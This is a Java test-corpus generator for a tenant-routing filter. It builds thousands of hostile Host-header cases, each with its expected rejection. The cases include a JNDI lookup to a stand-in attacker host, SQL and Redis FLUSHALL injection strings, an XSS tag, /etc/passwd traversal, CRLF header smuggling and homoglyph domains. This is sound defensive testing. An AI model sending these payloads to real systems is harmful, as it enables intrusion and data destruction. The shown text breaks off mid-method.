// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the tenant-filter authors
package io.github.tenantfilter.it;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.IDN;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;

/**
 * The hostile-host corpus of {@link HostileHostIT}: generates it (deterministically, from a fixed
 * seed), writes it to {@code src/test/resources/security/hostile-hosts.tsv} and reads it back.
 *
 * <p>One case per line, four tab-separated fields:
 *
 * <ol>
 *   <li>the expected outcome: {@code 400}, {@code 404}, {@code 400|404} (either is right: the
 *       RFCs do not decide between "malformed" and "unknown", as for non-ASCII bytes that a
 *       server may reject itself or pass on) or {@code tenant:<id>} (200 with exactly that
 *       tenant);
 *   <li>a category;
 *   <li>{@code host} (the field is the value of the one {@code Host} header of {@code GET
 *       <path> HTTP/1.1}) or {@code head} (the field is the whole request head, with {@code
 *       {path}} standing for the probe's path);
 *   <li>the value, bytes escaped: {@code \\}, {@code \t}, {@code \r}, {@code \n} and {@code \xHH}
 *       for any other byte below 0x20, 0x7F and 0x80-0xFF; every other byte as itself.
 * </ol>
 *
 * <p>The expectation of every case is decided here with the simple rules of {@link
 * #expect(String)} (RFC 9110/9112 field syntax, RFC 3986 authority, RFC 1123 names, and the
 * tenants {@link ItServices} creates), never by the filter's code. Regenerate after a change:
 *
 * <pre>
 * mvn -B -ntp -pl integration-tests -am test-compile -Dtest=none -Dsurefire.failIfNoSpecifiedTests=false
 * java -cp integration-tests/target/test-classes io.github.tenantfilter.it.HostileHostCorpus \
 *     integration-tests/src/test/resources/security/hostile-hosts.tsv
 * </pre>
 */
public final class HostileHostCorpus {

  /** Where the corpus lives on the test class path. */
  static final String RESOURCE = "security/hostile-hosts.tsv";

  private static final long SEED = 0x7e4a47L;
  private static final int TARGET = 10_600;

  static final String BASE = "app.localhost";
  /** Subdomain → tenant, as in {@link ItServices}. */
  static final Map<String, String> SUBDOMAINS =
      Map.of("acme", "acme", "globex", "globex", "initech", "initech");
  /** Custom domain → tenant, as in {@link ItServices}. */
  static final Map<String, String> DOMAINS = Map.of("acme-corp.localhost", "acme");
  static final List<String> REAL_HOSTS = List.of("acme.app.localhost", "globex.app.localhost",
      "initech.app.localhost", "acme-corp.localhost");

  /** One request of the corpus. */
  record Case(String expect, String category, String kind, String value) {

    /** The request bytes, with {@code path} as the request target. */
    byte[] request(String path) {
      String head = kind.equals("host")
          ? "GET " + path + " HTTP/1.1\r\nHost: " + value + "\r\n\r\n"
          : value.replace("{path}", path);
      return head.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Whether a status and the tenant named in the body (or null) are what this case expects. */
    boolean accepts(int status, String tenant) {
      if (expect.startsWith("tenant:")) {
        return status == 200 && expect.substring("tenant:".length()).equals(tenant);
      }
      return tenant == null && Set.of(expect.split("\\|")).contains(Integer.toString(status));
    }

    String line() {
      return expect + "\t" + category + "\t" + kind + "\t" + escape(value);
    }
  }

  private final Map<String, Case> cases = new LinkedHashMap<>();
  private final Random random = new Random(SEED);

  private HostileHostCorpus() {}

  /** Writes the corpus to the file given as the only argument. */
  public static void main(String[] args) throws IOException {
    List<Case> corpus = generate();
    Files.createDirectories(Path.of(args[0]).toAbsolutePath().getParent());
    Files.writeString(Path.of(args[0]), text(corpus), StandardCharsets.US_ASCII);
    System.out.println(corpus.size() + " cases written to " + args[0]);
  }

  /** The corpus file's content for {@code corpus}. */
  static String text(List<Case> corpus) {
    StringBuilder text = new StringBuilder(
        "# hostile-host corpus: written by io.github.tenantfilter.it.HostileHostCorpus, do not edit"
            + "\n# expect\tcategory\tkind\tvalue (escaped)\n");
    for (Case c : corpus) {
      text.append(c.line()).append('\n');
    }
    return text.toString();
  }

  /** Reads the checked-in corpus from the class path. */
  static List<Case> load() {
    try (InputStream in = HostileHostCorpus.class.getClassLoader().getResourceAsStream(RESOURCE)) {
      if (in == null) {
        throw new IllegalStateException("no " + RESOURCE + " on the class path");
      }
      List<Case> corpus = new ArrayList<>();
      for (String line : new String(in.readAllBytes(), StandardCharsets.US_ASCII).split("\n")) {
        if (!line.isEmpty() && !line.startsWith("#")) {
          String[] f = line.split("\t", 4);
          corpus.add(new Case(f[0], f[1], f[2], unescape(f[3])));
        }
      }
      return corpus;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** Generates the corpus. */
  static List<Case> generate() {
    HostileHostCorpus g = new HostileHostCorpus();
    g.handWritten();
    g.randomMutations();
    return List.copyOf(g.cases.values());
  }

  // ---------------------------------------------------------------- expectations

  /**
   * The expected outcome of a {@code Host} value (bytes as ISO-8859-1 characters), by simple
   * rules: leading and trailing spaces and tabs are not part of a field value (RFC 9110 5.5);
   * any byte above 0x7F gives {@code 400|404}; otherwise the value must be a host (RFC 1123
   * labels of letters, digits and hyphens, 1 to 63 long, not starting or ending with a hyphen,
   * at most 253 characters without the one optional trailing dot; or a bracketed IPv6 address)
   * with an optional port of at most 5 digits up to 65535 (an empty port is allowed, RFC 3986),
   * else {@code 400}. A label with {@code --} in positions 3 and 4 must be an A-label ({@code
   * xn--}, RFC 5891 4.2.3.1): the punycode of lower-case letters is valid, any other A-label gives
   * {@code 400|404}. A name whose last label is a number (digits, or {@code 0x} and hex digits)
   * is valid only as a dotted-quad IPv4 address (RFC 3986 IPv4address; WHATWG URL "ends in a
   * number"). A valid host names a tenant only as a one-label subdomain of the base domain or as
   * a custom domain; IP addresses, the base domain, deeper names under it and unknown names give
   * {@code 404}. Letter case does not matter.
   */
  static String expect(String raw) {
    String value = trimOws(raw);
    for (int i = 0; i < value.length(); i++) {
      if (value.charAt(i) >= 0x80) {
        return "400|404";
      }
    }
    if (value.isEmpty()) {
      return "400";
    }
    if (value.charAt(0) == '[') {
      int close = value.indexOf(']');
      if (close < 0) {
        return "400";
      }
      String address = value.substring(1, close);
      String rest = value.substring(close + 1);
      boolean portOk = rest.isEmpty() || (rest.charAt(0) == ':' && isPort(rest.substring(1)));
      return portOk && !address.isEmpty() && address.length() <= 45 && address.contains(":")
          && address.matches("[0-9a-fA-F:.]+") ? "404" : "400";
    }
    String host = value;
    int colon = value.indexOf(':');
    if (colon >= 0) {
      if (!isPort(value.substring(colon + 1))) {
        return "400";
      }
      host = value.substring(0, colon);
    }
    host = host.toLowerCase(Locale.ROOT);
    if (host.endsWith(".")) {
      host = host.substring(0, host.length() - 1);
    }
    if (host.isEmpty() || host.length() > 253) {
      return "400";
    }
    boolean aLabels = false;
    for (String label : host.split("\\.", -1)) {
      if (!label.matches("[a-z0-9-]{1,63}") || label.startsWith("-") || label.endsWith("-")) {
        return "400";
      }
      if (label.length() >= 4 && label.charAt(2) == '-' && label.charAt(3) == '-') {
        if (!label.startsWith("xn")) {
          return "400"; // "--" in positions 3 and 4 is reserved for A-labels (RFC 5891 4.2.3.1)
        }
        if (!isLetterALabel(label)) {
          aLabels = true;
        }
      }
    }
    String last = host.substring(host.lastIndexOf('.') + 1);
    if (last.matches("[0-9]+") || last.matches("0x[0-9a-f]*")) {
      // a number to every URL parser: only a dotted quad is an address (names no tenant)
      return host.matches(DOTTED_QUAD) ? "404" : "400";
    }
    if (aLabels) {
      // an A-label that is not the punycode of plain letters: whether it is valid depends on
      // the IDNA2008 code point tables, which these rules do not decide
      return "400|404";
    }
    if (host.endsWith("." + BASE)) {
      String label = host.substring(0, host.length() - BASE.length() - 1);
      return SUBDOMAINS.containsKey(label) ? "tenant:" + SUBDOMAINS.get(label) : "404";
    }
    return DOMAINS.containsKey(host) ? "tenant:" + DOMAINS.get(host) : "404";
  }

  private static final String OCTET = "(25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])";
  private static final String DOTTED_QUAD = OCTET + "\\." + OCTET + "\\." + OCTET + "\\." + OCTET;

  /**
   * Whether an {@code xn--} label is the punycode of lower-case letters (Latin, Greek, Cyrillic,
   * Armenian...; at least one not ASCII), digits and hyphens, which every IDNA version accepts:
   * decoded by the JDK, and encoded back to itself.
   */
  private static boolean isLetterALabel(String label) {
    if (!label.startsWith("xn--")) {
      return false;
    }
    String unicode = IDN.toUnicode(label);
    if (unicode.equals(label)
        || !unicode.codePoints().allMatch(c -> Character.isLowerCase(c) || c == '-'
            || (c >= '0' && c <= '9'))
        || unicode.codePoints().allMatch(c -> c < 0x80)) {
      return false;
    }
    try {
      return IDN.toASCII(unicode).equals(label);
    } catch (IllegalArgumentException e) {
      return false;
    }
  }

  private static boolean isPort(String port) {
    return port.matches("[0-9]{0,5}") && (port.isEmpty() || Integer.parseInt(port) <= 65535);
  }

  private static String trimOws(String value) {
    int start = 0;
    int end = value.length();
    while (start < end && (value.charAt(start) == ' ' || value.charAt(start) == '\t')) {
      start++;
    }
    while (end > start && (value.charAt(end - 1) == ' ' || value.charAt(end - 1) == '\t')) {
      end--;
    }
    return value.substring(start, end);
  }

  // ---------------------------------------------------------------- hand-written categories

  private void host(String category, String value) {
    add(new Case(expect(value), category, "host", value));
  }

  /** A host case whose expectation is also stated by hand: the rules must agree. */
  private void host(String category, String value, String expected) {
    String computed = expect(value);
    if (!computed.equals(expected)) {
      throw new IllegalStateException(
          "rules say " + computed + ", hand says " + expected + " for " + escape(value));
    }
    add(new Case(expected, category, "host", value));
  }

  private void head(String expected, String category, String head) {
    add(new Case(expected, category, "head", head));
  }

  private void add(Case c) {
    cases.putIfAbsent(c.kind() + "\t" + c.value(), c);
  }

  private void handWritten() {
    // empty and missing
    host("empty", "", "400");
    host("empty", " ", "400");
    host("empty", "\t", "400");
    host("empty", "  \t ", "400");
    head("400", "missing", "GET {path} HTTP/1.1\r\n\r\n");
    head("400", "missing", "GET {path} HTTP/1.1\r\nAccept: */*\r\n\r\n");
    head("400", "missing", "GET {path} HTTP/1.1\r\nHosts: acme.app.localhost\r\n\r\n");
    head("400", "missing", "GET {path} HTTP/1.1\r\nX-Host: acme.app.localhost\r\n\r\n");
    head("400", "missing", "GET {path} HTTP/1.1\r\nHost-Name: acme.app.localhost\r\n\r\n");
    head("400", "missing", "GET {path} HTTP/1.1\r\nX-Forwarded-Host: acme.app.localhost\r\n\r\n");
    head("400", "missing", "GET {path} HTTP/1.1\r\n:authority: acme.app.localhost\r\n\r\n");
    // HTTP/1.0 needs no Host: "no Host" (400) and "names no tenant" (404) are both right
    head("400|404", "missing-http10", "GET {path} HTTP/1.0\r\n\r\n");
    head("400|404", "missing-http10", "GET {path} HTTP/1.0\r\nX-Forwarded-Host: acme.app.localhost\r\n\r\n");

    // duplicated Host headers, same and different values, any spelling of the name
    List<String> someHosts = new ArrayList<>(REAL_HOSTS);
    someHosts.addAll(List.of("ACME.app.localhost", "nobody.app.localhost", "app.localhost",
        "127.0.0.1", "evil.example", "acme.app.localhost:8080"));
    for (String a : someHosts) {
      for (String b : someHosts) {
        head("400", "duplicated", "GET {path} HTTP/1.1\r\nHost: " + a + "\r\nHost: " + b
            + "\r\n\r\n");
      }
      head("400", "duplicated", "GET {path} HTTP/1.1\r\nHost: " + a + "\r\nhost: " + a
          + "\r\n\r\n");
      head("400", "duplicated", "GET {path} HTTP/1.1\r\nHOST: " + a
          + "\r\nAccept: */*\r\nHost: " + a + "\r\n\r\n");
      head("400", "duplicated", "GET {path} HTTP/1.1\r\nHost: " + a + "\r\nHost: \r\n\r\n");
      head("400", "duplicated", "GET {path} HTTP/1.1\r\nHost: \r\nHost: " + a + "\r\n\r\n");
      for (String b : List.of("globex.app.localhost", "acme.app.localhost")) {
        host("duplicated-list", a + "," + b, "400");
        host("duplicated-list", a + ", " + b, "400");
      }
    }
    head("400", "duplicated", "GET {path} HTTP/1.1\r\nHost: acme.app.localhost\r\nHost: "
        + "acme.app.localhost\r\nHost: acme.app.localhost\r\n\r\n");

    for (String real : REAL_HOSTS) {
      String other = real.startsWith("globex") ? "acme.app.localhost" : "globex.app.localhost";
      // userinfo
      for (String userinfo : List.of("user@", "user:pass@", ":@", "@", other + "@",
          "acme:acme@", "%40@", "user@" + other + "@")) {
        host("userinfo", userinfo + real, "400");
        host("userinfo", userinfo + real + ":8080", "400");
      }
      host("userinfo", real + "@" + other, "400");
      // path, query, fragment
      for (String suffix : List.of("/", "/x", "/probe/whoami", "/../", "/./", "?", "?x=1",
          "?host=" + other, "#", "#frag", "/#", "\\", "\\x", ";x", "/%2e%2e")) {
        host("path-query-fragment", real + suffix, "400");
        host("path-query-fragment", real + ":8080" + suffix, "400");
      }
      host("path-query-fragment", "/" + real, "400");
      host("path-query-fragment", "//" + real, "400");
      host("path-query-fragment", "http://" + real, "400");
      host("path-query-fragment", "https://" + real + "/", "400");
      // ports
      for (String port : List.of(":99999", ":65536", ":100000", ":-1", ":abc", "::", ":0x50",
          ":80:80", ": 80", ":8 0", ":+80", ":80.0", ":1e3", ":\t80", ":80a", ":a80", ":Ⅷ",
          ":٨٠", ":８０", ":000000080", ":https", ":%38%30", "::1")) {
        String bytes = new String(port.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
        host("bad-port", real + bytes);
      }
      for (String port : List.of(":", ":0", ":1", ":80", ":443", ":8080", ":65535", ":00080",
          ":6379", ":5432")) {
        host("port-valid", real + port, tenantOf(real));
      }
      // control characters and bytes above 0x7F, at the start, inside and at the end
      for (int b = 0; b < 0x100; b++) {
        if (b == '\r' || b == '\n' || (b >= 0x20 && b < 0x7f)) {
          continue;
        }
        String c = String.valueOf((char) b);
        int dot = real.indexOf('.');
        host("control-and-8bit", c + real);
        host("control-and-8bit", real.substring(0, 2) + c + real.substring(2));
        host("control-and-8bit", real.substring(0, dot) + c + real.substring(dot));
        host("control-and-8bit", real + c);
        host("control-and-8bit", real.substring(0, 1) + c);
      }
      for (String bad : List.of("\u00c0\u00ae", "\u00c0\u00af", "\u00ed\u00a0\u0080",
          "\u00f8\u0088\u0080\u0080\u0080", "\u00e2\u0082", "\u00ff\u00fe", "\u00c2",
          "\u00e0\u0080\u00ae", "\u00f4\u0090\u0080\u0080")) {
        host("invalid-utf8", real.substring(0, 2) + bad + real.substring(2));
        host("invalid-utf8", real + bad);
      }
      // trailing dot, case and whitespace: still the same tenant (positive controls)
      host("positive-trailing-dot", real + ".", tenantOf(real));
      host("positive-trailing-dot", real + ".:8080", tenantOf(real));
      host("positive-ows", " " + real, tenantOf(real));
      host("positive-ows", real + " ", tenantOf(real));
      host("positive-ows", "\t" + real + "\t", tenantOf(real));
      host("positive-ows", "  " + real + " \t ", tenantOf(real));
      host("positive-case", real.toUpperCase(Locale.ROOT), tenantOf(real));
      host("positive-case", real.toUpperCase(Locale.ROOT) + ".", tenantOf(real));
      for (int i = 0; i < 60; i++) {
        host("positive-case", randomCase(real), tenantOf(real));
      }
      for (String name : List.of("Host", "host", "HOST", "hOsT")) {
        head(tenantOf(real), "positive-header-name", "GET {path} HTTP/1.1\r\n" + name + ": "
            + real + "\r\n\r\n");
      }
      head(tenantOf(real), "positive-header-name", "GET {path} HTTP/1.1\r\nHost:" + real
          + "\r\n\r\n");
      // whitespace before the colon: RFC 9112 5.1 says reject
      head("400", "header-name", "GET {path} HTTP/1.1\r\nHost : " + real + "\r\n\r\n");
      head("400", "header-name", "GET {path} HTTP/1.1\r\nHost\t: " + real + "\r\n\r\n");

      // CR/LF injection attempts that keep the request well formed
      head("400", "crlf", "GET {path} HTTP/1.1\r\nHost: " + real + "\r\nHost: " + other
          + "\r\n\r\n");
      head("400", "crlf", "GET {path} HTTP/1.1\r\nHost: " + real + "\r\n " + other + "\r\n\r\n");
      head("400", "crlf", "GET {path} HTTP/1.1\r\nHost: " + real + "\r\n\t" + other
          + "\r\n\r\n");
      head("400", "crlf", "GET {path} HTTP/1.1\r\nHost: " + real + "\r\n x\r\n\r\n");
      head("400", "crlf", "GET {path} HTTP/1.1\r\nHost: " + real + "\rHost: " + other
          + "\r\n\r\n");
      head("400", "crlf", "GET {path} HTTP/1.1\r\nHost: " + real + "\r" + other + "\r\n\r\n");
      head("400", "crlf", "GET {path} HTTP/1.1\r\nHost: " + real + "\nHost: " + other
          + "\r\n\r\n");
      head("400", "crlf", "GET {path} HTTP/1.1\nHost: " + real + "\nHost: " + other + "\n\n");
      head("400", "crlf", "GET {path} HTTP/1.1\r\nHost: " + real + "\r\nX-Injected: 1\r\nHost: "
          + real + "\r\n\r\n");
      head(tenantOf(real), "crlf", "GET {path} HTTP/1.1\r\nHost: " + real
          + "\r\nX-Forwarded-Host: " + other + "\r\n\r\n");
      head(tenantOf(real), "crlf", "GET {path} HTTP/1.1\r\nHost: " + real
          + "\r\nX-Injected: Host: " + other + "\r\n\r\n");
      host("crlf", real + "%0d%0aHost:%20" + other, "400");
      host("crlf", real + "\\r\\nHost: " + other, "400");

      // absolute-form request targets: the target's authority must be the Host
      head(tenantOf(real), "absolute-form", "GET http://" + real + "{path} HTTP/1.1\r\nHost: "
          + real + "\r\n\r\n");
      head(tenantOf(real), "absolute-form", "GET http://" + real + ":8080{path} HTTP/1.1\r\n"
          + "Host: " + real + ":8080\r\n\r\n");
      for (String target : List.of(other, "nobody.app.localhost", "app.localhost",
          "127.0.0.1", "evil.example", "user@" + other, other + ":8080")) {
        for (String scheme : List.of("http", "https")) {
          head("400", "absolute-form", "GET " + scheme + "://" + target + "{path} HTTP/1.1\r\n"
              + "Host: " + real + "\r\n\r\n");
        }
      }
      head("400", "absolute-form", "GET http://" + other + "{path} HTTP/1.1\r\n\r\n");
    }

    // over-long names and labels
    for (int length = 60; length <= 70; length++) {
      host("overlong-label", "a".repeat(length) + "." + BASE);
      host("overlong-label", "acme." + "b".repeat(length) + ".localhost");
      host("overlong-label", "x".repeat(length) + ".example");
    }
    for (int length = 250; length <= 258; length++) {
      host("overlong-name", longName(length, "." + BASE));
      host("overlong-name", longName(length, ".example"));
      host("overlong-name", longName(length, "." + BASE) + ".");
      host("overlong-name", longName(length, "." + BASE) + ":8080");
    }
    for (int length : List.of(512, 1000, 1023, 1024, 1025, 2048, 4000)) {
      host("overlong-name", longName(length, "." + BASE));
      host("overlong-name", "a".repeat(length));
    }
    // empty labels, dots
    for (String v : List.of(".", "..", "...", ".acme.app.localhost", "acme..app.localhost",
        "acme.app..localhost", "acme.app.localhost..", "..acme.app.localhost", "a..b",
        ".app.localhost", "acme.app.localhost...", ".:80", "acme.app.localhost..:80",
        "acme.app.localhost. ", " .acme.app.localhost")) {
      host("empty-label", v);
    }
    // hyphens
    for (String v : List.of("-acme.app.localhost", "acme-.app.localhost", "-acme-.app.localhost",
        "acme.-app.localhost", "acme.app-.localhost", "acme.app.-localhost", "acme.app.localhost-",
        "-", "--", "-.app.localhost", "---.app.localhost", "ac-me.app.localhost",
        "a--b.app.localhost", "acme--.app.localhost", "-acme-corp.localhost",
        "acme-corp-.localhost", "acme-corp.localhost-")) {
      host("hyphen", v);
    }
    // other characters a host name cannot hold
    for (char c : "_ \\%*\"'<>()[]{}|^`~!$&+,;=@/?#".toCharArray()) {
      host("special-char", "ac" + c + "me.app.localhost", "400");
      host("special-char", c + "acme.app.localhost");
      host("special-char", "acme.app.localhost" + c);
      host("special-char", "acme" + c + "app.localhost");
      host("special-char", "acme-corp" + c + "localhost");
      host("special-char", String.valueOf(c));
    }
    for (String v : List.of("%61cme.app.localhost", "acme%2eapp.localhost", "%2e%2e",
        "acme%00.app.localhost", "<script>alert(1)</script>.app.localhost",
        "<script>alert(1)</script>", "acme.app.localhost<script>",
        "\"acme.app.localhost\"", "'acme.app.localhost'", "acme_corp.localhost",
        "a_b.app.localhost", "acme app.localhost", "acme.app.localhost extra",
        "${jndi:ldap://evil.example/a}", "{{7*7}}.app.localhost", "acme.app.localhost\\",
        "..\\..\\etc\\passwd", "../../etc/passwd", "acme.app.localhost%2f..",
        "&#97;cme.app.localhost", "acme&#46;app.localhost")) {
      host("special-char", v, "400");
    }
    // attempts at Redis keys, Redis commands and SQL
    for (String v : List.of("tenant:id:acme", "tenant:subdomain:acme",
        "tenant:domain:acme-corp.localhost", "tenant:*", "*", "acme*", "*.app.localhost",
        "acme?", "acme[a-z]", "{acme}", "*1\t$8\tFLUSHALL", "*1 $8 FLUSHALL",
        "acme.app.localhost FLUSHALL", "acme.app.localhost\u0000FLUSHALL", "FLUSHALL\u0000",
        "acme.app.localhost;DEL x", "'; DROP TABLE tenants; --", "acme' OR '1'='1",
        "acme.app.localhost' --", "acme.app.localhost\"; --", "acme%27%20OR%201=1",
        "tf-it:tenant:id:acme", "acme:6379:x", "127.0.0.1:6379:0", "redis://127.0.0.1:6379",
        "acme\u0000.app.localhost", "tenant:id:acme\t", "\ttenant:id:acme")) {
      host("key-injection", v, "400");
    }
    // valid names that only look like keys or commands: unknown, looked up harmlessly
    for (String v : List.of("flushall", "keys", "tenant.id.acme", "del.app.localhost",
        "eval.app.localhost", "127.0.0.1:6379", "localhost:6379", "localhost:5432",
        "select.app.localhost", "drop.app.localhost", "null.app.localhost", "none.app.localhost")) {
      host("key-lookalike", v, "404");
    }
    host("key-injection", "acme.app.localhost:6379", "tenant:acme");

    // look-alikes of real tenants
    for (String v : List.of("acrne", "acne", "acmee", "aacme", "acme1", "acme0", "4cme", "acm",
        "cme", "acme-", "a-cme", "acme-corp", "gl0bex", "globex1", "globexx", "glob3x", "initec",
        "init3ch", "initech1", "1nitech", "acmecorp", "acme-corp-localhost", "www",
        "app", "localhost", "admin", "api", "static", "default", "test", "null")) {
      host("lookalike", v + "." + BASE);
    }
    for (String v : List.of("acme.app.localhost.evil.example", "evil.example.acme.app.localhost",
        "www.acme.app.localhost", "acme.acme.app.localhost", "acme-app.localhost",
        "acme.app.localhost-evil.example", "acmeapp.localhost", "acme.applocalhost",
        "acme.app.local", "acme.app.localhost.localhost", "acme.app", "acme.localhost",
        "app.localhost.acme", "acme-corp.localhost.evil.example", "www.acme-corp.localhost",
        "acme-corp.app.localhost.evil", "acme-corp.localhostx", "acme-corp.local",
        "acmecorp.localhost", "acme-corp.localhost.app.localhost",
        "globex.app.localhost.acme.app.localhost", "x.y.z.app.localhost", "localhost",
        "evil.example", "acme.app.localhost.", "acme.app.localhost.app.localhost")) {
      host("lookalike", v);
    }
    // homoglyphs: Cyrillic and Greek letters in UTF-8 and as punycode
    String[][] homoglyphs = {{"a", "\u0430"}, {"c", "\u0441"}, {"e", "\u0435"},
        {"o", "\u043e"}, {"i", "\u0456"}, {"x", "\u0445"}, {"a", "\u03b1"}, {"o", "\u03bf"},
        {"e", "\u03b5"}, {"i", "\u03b9"}, {"b", "\u0432"}, {"m", "\u043c"}, {"h", "\u04bb"},
        {"t", "\u0442"}, {"n", "\u0578"}};
    for (String tenant : SUBDOMAINS.keySet().stream().sorted().toList()) {
      for (String[] glyph : homoglyphs) {
        int at = tenant.indexOf(glyph[0]);
        if (at < 0) {
          continue;
        }
        String label = tenant.substring(0, at) + glyph[1] + tenant.substring(at + 1);
        host("homoglyph-utf8", utf8(label + "." + BASE));
        host("homoglyph-utf8", utf8(label.toUpperCase(Locale.ROOT) + "." + BASE));
        host("homoglyph-punycode", IDN.toASCII(label) + "." + BASE, "404");
      }
      String all = tenant.replace("a", "\u0430").replace("c", "\u0441").replace("e", "\u0435")
          .replace("o", "\u043e").replace("x", "\u0445").replace("i", "\u0456");
      host("homoglyph-utf8", utf8(all + "." + BASE));
      host("homoglyph-punycode", IDN.toASCII(all) + "." + BASE, "404");
    }
    for (String v : List.of("\u0430\u0441m\u0435-corp.localhost", "acm\u0435-corp.localhost",
        "\u0430pp.localhost", "acme.\u0430pp.localhost", "acme.app.l\u043ecalhost")) {
      host("homoglyph-utf8", utf8(v));
      host("homoglyph-punycode", IDN.toASCII(v), "404");
    }
    for (String v : List.of("xn--", "xn---", "xn--a-", "xn--acme", "xn--80a", "xn--zzzz",
        "xn--acme-", "xn--0", "xn--ls8h", "xn--80ak6aa92e", "xn--xn--acme", "XN--ACME",
        "xn--acme-corp", "xn--a", "xn--9999999999", "xn--bcher-kva", "xn--ab--")) {
      host("punycode-garbage", v + "." + BASE);
      host("punycode-garbage", v + ".localhost");
    }
    // IP literals in every notation
    for (String v : List.of("127.0.0.1", "127.0.0.1:8080", "127.1", "127.0.1", "0", "0.0.0.0",
        "2130706433", "0x7f.1", "0x7f000001", "0177.0.0.1", "017700000001", "10.0.0.1",
        "169.254.169.254", "192.168.0.1:80", "1.2.3.4.5", "256.256.256.256", "127.0.0.1.",
        "[::1]", "[::1]:8080", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::]", "[0:0:0:0:0:0:0:1]",
        "[::1]:", "[fe80::1%25eth0]", "[fe80::1%eth0]", "[::1", "::1", "[]", "[::1]x",
        "[::1]:99999", "[acme.app.localhost]", "[::g]", "[::1]:80:80", "[1.2.3.4]",
        "[::1]]", "[[::1]]", "[::1]acme", "0x7f.0.0.1", "127.0.0.1:abc", "[::1]:-1",
        "[v1.fe80::a+en1]", "[::1].app.localhost", "1.2.3.4.app.localhost",
        "127.0.0.1.nip.io", "acme.127.0.0.1")) {
      host("ip-literal", v);
    }
    // the base domain itself: names no tenant
    for (String v : List.of("app.localhost", "APP.LOCALHOST", "app.localhost.", "app.localhost:8080",
        "App.Localhost.:80", " app.localhost")) {
      host("base-domain", v, "404");
    }
    // unknown subdomains and unknown custom domains: 404
    for (int i = 0; i < 700; i++) {
      String label = randomLabel(1 + random.nextInt(20));
      host("unknown-subdomain", label + "." + BASE + (random.nextInt(4) == 0 ? ":8080" : ""));
    }
    for (int i = 0; i < 700; i++) {
      int labels = 1 + random.nextInt(4);
      StringBuilder name = new StringBuilder();
      for (int l = 0; l < labels; l++) {
        name.append(randomLabel(1 + random.nextInt(15))).append('.');
      }
      name.append(List.of("example", "com", "localhost", "org", "test", "io").get(
          random.nextInt(6)));
      host("unknown-domain", name.toString());
    }
  }

  // ---------------------------------------------------------------- random mutations

  private void randomMutations() {
    List<String> bases = new ArrayList<>(REAL_HOSTS);
    bases.add("acme.app.localhost:8080");
    bases.add("globex.app.localhost:443");
    while (cases.size() < TARGET) {
      StringBuilder v = new StringBuilder(bases.get(random.nextInt(bases.size())));
      int mutations = 1 + random.nextInt(3);
      for (int m = 0; m < mutations; m++) {
        int at = v.length() == 0 ? 0 : random.nextInt(v.length() + 1);
        switch (random.nextInt(6)) {
          case 0, 1 -> v.insert(at, randomChar());
          case 2 -> {
            if (at < v.length()) {
              v.setCharAt(at, randomChar());
            }
          }
          case 3 -> {
            if (at < v.length()) {
              v.deleteCharAt(at);
            }
          }
          case 4 -> {
            if (at < v.length()) {
              v.setCharAt(at, Character.toUpperCase(v.charAt(at)));
            }
          }
          default -> {
            int end = Math.min(v.length(), at + 1 + random.nextInt(6));
            v.insert(at, v.substring(at, end));
          }
        }
      }
      String value = v.toString();
      add(new Case(expect(value), "random-mutation", "host", value));
    }
  }

  private char randomChar() {
    int kind = random.nextInt(100);
    if (kind < 30) {
      return (char) ('a' + random.nextInt(26));
    } else if (kind < 38) {
      return (char) ('0' + random.nextInt(10));
    } else if (kind < 46) {
      return '-';
    } else if (kind < 56) {
      return '.';
    } else if (kind < 61) {
      return ':';
    } else if (kind < 66) {
      return (char) ('A' + random.nextInt(26));
    } else if (kind < 78) {
      String punctuation = " !\"#$%&'()*+,/;<=>?@[\\]^_`{|}~";
      return punctuation.charAt(random.nextInt(punctuation.length()));
    } else if (kind < 89) {
      int c = random.nextInt(33);
      return c == 32 ? (char) 0x7f : c == '\r' || c == '\n' ? '\t' : (char) c;
    } else {
      return (char) (0x80 + random.nextInt(0x80));
    }
  }

  private String randomLabel(int length) {
    String letters = "abcdefghijklmnopqrstuvwxyz0123456789";
    while (true) {
      StringBuilder label = new StringBuilder();
      for (int i = 0; i < length; i++) {
        label.append(i > 0 && i < length - 1 && random.nextInt(8) == 0 ? '-'
            : letters.charAt(random.nextInt(i == 0 ? 26 : letters.length())));
      }
      String result = label.toString();
      if (!SUBDOMAINS.containsKey(result)) {
        return result;
      }
    }
  }

  private String randomCase(String host) {
    StringBuilder s = new StringBuilder(host);
    for (int i = 0; i < s.length(); i++) {
      if (random.nextBoolean()) {
        s.setCharAt(i, Character.toUpperCase(s.charAt(i)));
      }
    }
    return s.toString();
  }

  private static String tenantOf(String realHost) {
    return expect(realHost);
  }

  /** A name of exactly {@code length} characters ending with {@code suffix}, 50-char labels. */
  private static String longName(int length, String suffix) {
    StringBuilder name = new StringBuilder();
    while (name.length() < length - suffix.length()) {
      name.append("l".repeat(49)).append('.');
    }
    name.setLength(length - suffix.length());
    if (name.charAt(name.length() - 1) == '.') {
      name.setCharAt(name.length() - 1, 'l');
    }
    return name + suffix;
  }

  /** The UTF-8 bytes of {@code s} as ISO-8859-1 characters, one per byte. */
  static String utf8(String s) {
    return new String(s.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
  }

  // ---------------------------------------------------------------- escaping

  static String escape(String value) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < value.length(); i++) {
      char c = value.charAt(i);
      switch (c) {
        case '\\' -> out.append("\\\\");
        case '\t' -> out.append("\\t");
        case '\r' -> out.append("\\r");
        case '\n' -> out.append("\\n");
        default -> {
          if (c > 0xff) {
            throw new IllegalArgumentException("not a byte: " + (int) c);
          }
          if (c < 0x20 || c >= 0x7f) {
            out.append(String.format("\\x%02x", (int) c));
          } else {
            out.append(c);
          }
        }
      }
    }
    return out.toString();
  }

  static String unescape(String text) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c != '\\') {
        out.append(c);
        continue;
      }
      char next = text.charAt(++i);
      switch (next) {
        case '\\' -> out.append('\\');
        case 't' -> out.append('\t');
